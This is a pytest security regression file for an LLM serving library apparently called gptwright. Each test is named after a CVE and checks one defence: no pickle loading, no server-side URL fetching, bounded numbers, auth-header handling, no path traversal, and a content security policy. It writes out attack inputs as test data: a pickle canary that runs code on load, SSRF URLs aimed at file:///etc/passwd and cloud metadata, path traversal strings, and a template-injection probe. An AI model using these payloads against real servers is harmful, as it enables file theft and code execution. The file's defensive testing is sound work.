"""What broke other projects, each by its name. Those that other tests hold are listed in docs/24-threat-model.md."""

import asyncio
import json
import pickle
import socket
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import func, select
from tests.serving.conftest import FakeModel
from tests.serving.fuzzing import SCHEMAS

import gptwright
from gptwright.foundations.errors import GptwrightError
from gptwright.inference.sampling import Sampling
from gptwright.models.gpt2 import GPT2
from gptwright.pipelines.generation_config import GenerationConfig
from gptwright.pipelines.model import Model
from gptwright.serving.api import create_app
from gptwright.store.database import Store
from gptwright.store.tables import Base
from gptwright.tokenizers.tokenizer import Tokenizer

HELLO: Any = [{"role": "user", "content": "the cat"}]
CHAT, TEXT = "/v1/chat/completions", "/v1/completions"


def answers(
    app: FastAPI, *calls: tuple[str, str, Any], headers: Mapping[str, str] | None = None
) -> list[httpx.Response]:
    async def go() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://localhost", headers=headers) as client:
            return [await client.request(method, path, json=body) for method, path, body in calls]

    return asyncio.run(go())


def chats(app: FastAPI, *fields: Mapping[str, Any]) -> list[httpx.Response]:
    return answers(app, *(("POST", CHAT, {"model": "tiny", "messages": HELLO, **more}) for more in fields))


@pytest.fixture
def real(network: GPT2, tokenizer: Tokenizer) -> Model:
    return Model(network, tokenizer, "tiny", GenerationConfig.of(Sampling(max_tokens=4)))


class Canary:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return Path.touch, (self.path,)


@pytest.mark.parametrize("name", ["pytorch_model.bin", "rng_state.pth", "optimizer.pt", "training_args.bin", "a.pkl"])
def test_cve_2025_32434_cve_2026_1839_cve_2024_3568_no_pickle_of_a_model_folder_is_opened(
    real: Model, tmp_path: Path, name: str
) -> None:
    folder, sprung = tmp_path / "model", tmp_path / "sprung"
    real.save(folder)
    (folder / name).write_bytes(pickle.dumps(Canary(sprung)))
    gptwright.load(folder)
    assert not sprung.exists()


@pytest.mark.parametrize("hidden", [False, True])
def test_cve_2026_31214_what_cannot_be_read_safely_is_not_read_otherwise(
    real: Model, tmp_path: Path, hidden: bool
) -> None:
    folder, sprung = tmp_path / "model", tmp_path / "sprung"
    real.save(folder)
    (folder / "manifest.json").unlink()
    weights = folder / "model.safetensors"
    name = folder / "pytorch_model.bin" if not hidden else weights
    weights.unlink()
    name.write_bytes(pickle.dumps(Canary(sprung)))
    with pytest.raises(GptwrightError):
        gptwright.load(folder)
    assert not sprung.exists()


@pytest.mark.parametrize("field", ["prompt_embeds", "chat_template", "chat_template_kwargs", "mm_processor_kwargs",
                                   "n_discard", "lora", "guided_regex", "video", "documents"])  # fmt: skip
def test_cve_2025_62164_cve_2025_62426_no_tensors_templates_or_strange_settings_over_http(
    app: FastAPI, field: str
) -> None:
    for value in ("gASV", {"a": "{{ 7 * 7 }}"}, -1):
        calls = [("POST", CHAT, {"model": "tiny", "messages": HELLO, field: value}),
                 ("POST", TEXT, {"model": "tiny", "prompt": "x", field: value})]  # fmt: skip
        for answer in answers(app, *calls):
            assert (answer.status_code, answer.json()["error"]["param"]) == (400, field)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[object]]]:
    """A port of this machine, and who came to it."""
    came: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, whence = server.accept()
                except OSError:
                    return
                came.append(whence)
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)
    thread.join(10)


def test_cve_2025_6242_cve_2026_45400_cve_2026_45401_no_address_in_a_request_is_fetched(
    app: FastAPI, listener: tuple[int, list[object]]
) -> None:
    port, came = listener
    here = f"127.0.0.1:{port}"
    urls = [f"http://{here}/a.png", f"http://localhost:{port}", f"HTTP://0x7f000001:{port}/", f"//[::1]:{port}/",
            f"http://example.com@{here}/", f"http://{here}\\@example.com/", "file:///etc/passwd", f"ftp://{here}/",
            f"data:text/html,<img src=http://{here}>", "http://169.254.169.254/x"]  # fmt: skip
    for url in urls:
        parts = [{"type": "image_url", "image_url": {"url": url}}]
        calls = [("POST", CHAT, {"model": "tiny", "messages": [{"role": "user", "content": parts}]}),
                 ("POST", "/v1/responses", {"model": "tiny", "input": [{"role": "user", "content": [
                     {"type": "input_image", "image_url": url}]}]})]  # fmt: skip
        for answer in answers(app, *calls):
            assert answer.status_code == 400 and answer.json()["error"]["param"]
    assert came == []


def numbers(document: Any) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Every numeric field of every body: its route, its name, and a body in which it is left to fill in."""
    schemas = document["components"]["schemas"]
    least = {"model": "tiny", "messages": HELLO, "prompt": "x", "input": "x", "instruction": "x", "input_prefix": "x",
             "input_suffix": "x"}  # fmt: skip
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            if "requestBody" not in operation or "{" in path:
                continue
            name = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[1]
            fields = schemas[name]["properties"]
            body = {field: value for field, value in least.items() if field in fields}
            body |= {field: schema["enum"][0] for field, schema in fields.items() if "enum" in schema}
            for field, schema in fields.items():
                kinds = {one.get("type") for one in schema.get("anyOf", [schema])}
                if kinds & {"integer", "number"}:
                    yield f"{method.upper()} {path}", field, body


def test_cve_2026_34756_cve_2026_21869_every_number_is_bounded(real: Model, store: Store) -> None:
    app = create_app({"tiny": real}, store)
    [document] = answers(app, ("GET", "/openapi.json", None))
    found = list(numbers(document.json()))
    assert len(found) > 40 and {"n", "best_of", "max_tokens", "n_predict", "minutes"} <= {
        field for _, field, _ in found
    }
    for route, field, body in found:
        method, path = route.split()
        for value in (-(10**30), 10**30, -(10**400), 10**400, -1e308, 1e308):
            [answer] = answers(app, (method, path, body | {field: value}))
            error = answer.json().get("error", {"param": ""})
            assert answer.status_code in (400, 404) and error["param"] in (
                field,
                "model",
                "messages",
                "input_suffix",
            ), (
                route,
                field,
                value,
            )


@pytest.mark.parametrize("schema", SCHEMAS, ids=str)
def test_cve_2025_48944_no_schema_of_a_tool_ends_the_engine(real: Model, store: Store, schema: Any) -> None:
    app = create_app({"tiny": real}, store)
    tool = {"type": "function", "function": {"name": "tell", "parameters": schema}}
    form = {"type": "json_schema", "json_schema": {"name": "a", "schema": schema}}
    asked = [{"tools": [tool], "tool_choice": "required"}, {"tools": [tool]}, {"response_format": form}]
    found = chats(app, *asked, {})
    assert max(answer.status_code for answer in found) < 500 and found[-1].status_code == 200
    for worker in app.state.workers:
        worker.close()


CARRIERS: list[dict[str, str]] = [
    {"x-api-key": "secret"}, {"api-key": "secret"}, {"cookie": "gptwright=secret"}, {"x-forwarded-user": "anna"},
    {"authorization": "secret"}, {"authorization": "Basic c2VjcmV0Og=="}, {"proxy-authorization": "Bearer secret"},
    {"x-forwarded-for": "127.0.0.1"}, {"x-original-url": "/health"},
]  # fmt: skip


@pytest.mark.parametrize("headers", CARRIERS, ids=str)
def test_cve_2026_45339_a_key_comes_in_by_one_way_alone(
    model: FakeModel, store: Store, headers: dict[str, str]
) -> None:
    app = create_app({"tiny": model}, store, keys={"anna": "secret"})  # pyright: ignore[reportArgumentType]
    calls: list[tuple[str, str, Any]] = [
        ("GET", "/v1/models?api_key=secret&key=secret", None),
        ("POST", CHAT, {"model": "tiny", "messages": HELLO}),
    ]
    assert {answer.status_code for answer in answers(app, *calls, headers=headers)} <= {401, 403}


@pytest.mark.parametrize("path", [
    "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/pyproject.toml", "//etc/passwd", "/C:/win.ini",
    "/..\\..\\x", "/app.js/../../api.py", "/app.js%00.png", "/.git/config", "/v1/models/..%2f..%2fetc%2fpasswd",
])  # fmt: skip
def test_ghsa_qrm5_r67f_6692_cve_2026_28414_names_in_requests_never_reach_the_file_system(
    app: FastAPI, path: str, tmp_path: Path
) -> None:
    assert asyncio.run(raw_status(app, path)) == 404
    before = sorted(tmp_path.rglob("*"))
    [made] = answers(app, ("POST", "/api/conversations", {"title": path, "folder": f"..{path}"}))
    assert made.status_code == 201 and sorted(tmp_path.rglob("*")) == before


async def raw_status(app: FastAPI, path: str) -> int:
    """Of a GET whose address no client has tidied up."""
    sent: list[Any] = []
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "path": path,
             "raw_path": path.encode(), "query_string": b"", "headers": [(b"host", b"localhost")], "scheme": "http",
             "server": ("localhost", 80), "client": ("127.0.0.1", 1), "root_path": ""}  # fmt: skip

    async def receive() -> Any:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    await app(scope, receive, send)
    return sent[0]["status"]


def rows(store: Store) -> dict[str, int | None]:
    """How many each table has."""
    tables = Base.metadata.sorted_tables
    with store.read() as session:
        return {table.name: session.scalar(select(func.count()).select_from(table)) for table in tables}


def test_llama_cpp_25790_reading_changes_nothing(app: FastAPI, store: Store, model: FakeModel) -> None:
    [document] = answers(app, ("GET", "/openapi.json", None))
    before = rows(store)
    paths = [path for path, methods in document.json()["paths"].items() if "get" in methods]
    asked = [f"{path.replace('{', '').replace('}', '')}?q=Do+it&prompt=Do+it&message=Do+it" for path in [*paths, "/"]]
    found = answers(app, *((method, path, None) for path in asked for method in ("GET", "HEAD")))
    assert max(answer.status_code for answer in found) < 500 and not model.asked
    assert rows(store) == before and len(paths) > 10


def test_owasp_pr_9_no_picture_of_a_reply_asks_another_server(app: FastAPI, model: FakeModel) -> None:
    model.reply = "![x](http://example.com/?d=secret)"
    told, page = chats(app, {})[0], answers(app, ("GET", "/", None))[0]
    assert json.loads(told.text)["choices"][0]["message"]["content"] == model.reply
    for answer in (told, page):
        rules = dict(rule.strip().split(" ", 1) for rule in answer.headers["content-security-policy"].split(";"))
        assert rules["img-src"] == "'self' data: blob:" and rules["default-src"] == "'self'"
        assert not any("http" in rule or "*" in rule or "unsafe" in rule for rule in rules.values())
